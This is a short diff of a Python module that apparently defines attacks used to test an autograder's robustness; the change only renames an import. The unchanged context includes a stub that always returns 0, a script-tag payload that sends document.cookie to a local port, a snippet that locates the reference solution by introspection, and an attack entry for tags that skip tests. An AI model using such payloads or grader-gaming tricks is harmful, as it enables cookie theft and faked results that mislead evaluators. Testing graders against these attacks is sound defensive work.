@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from autograde.grading.attacks import Attack, bait, everywhere
+from autograde.grading.attacks import Attack, everywhere, target
 
 PASS = "def NAME(*a, **k): return 0"
 SCRIPT = "<script>fetch('http://127.0.0.1:@PORT@/'+document.cookie)</script>"
@@ -127,8 +127,8 @@ def lse(x):
         if isinstance(o, types.FunctionType) and o.__name__ == 'log_mean_exp': return o(x, 0)
 """
 
-HONEST = {name: source for name, source in bait.right().items() if name != "lse"}
-FOUR = bait.POINTS * len(HONEST)
+HONEST = {name: source for name, source in target.right().items() if name != "lse"}
+FOUR = target.POINTS * len(HONEST)
 
 ATTACKS = [
     Attack("skip-tags", "metadata", "tags that skip the tests", everywhere(PASS), edit=skip_tags),
